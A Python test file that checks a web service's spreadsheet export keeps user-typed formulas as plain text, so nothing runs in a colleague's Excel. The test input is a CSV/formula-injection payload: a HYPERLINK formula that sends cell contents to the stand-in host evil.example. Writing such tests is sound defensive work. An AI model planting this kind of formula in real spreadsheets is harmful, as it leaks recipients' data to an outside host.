"""Downloads keep what people typed as text: no formula reaches a colleague's Excel."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from services.web.sheets import workbook


def test_a_typed_formula_stays_words_and_numbers_stay_numbers() -> None:
    trap = '=HYPERLINK("http://evil.example/?d="&A3&B3,"点击查看详情")'
    data = workbook(
        [("服务记录", ["姓名", "说明", "时长"], [["张三", trap, 2.5], ["李四", None, 1]])]
    )
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    rows = [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows()]
    assert rows[0] == [("姓名", "s"), ("说明", "s"), ("时长", "s")]
    assert rows[1] == [("张三", "s"), (trap, "s"), (2.5, "n")]
    assert rows[2][1][0] is None  # an empty cell, not the text "None"
    assert sheet.freeze_panes == "A2"
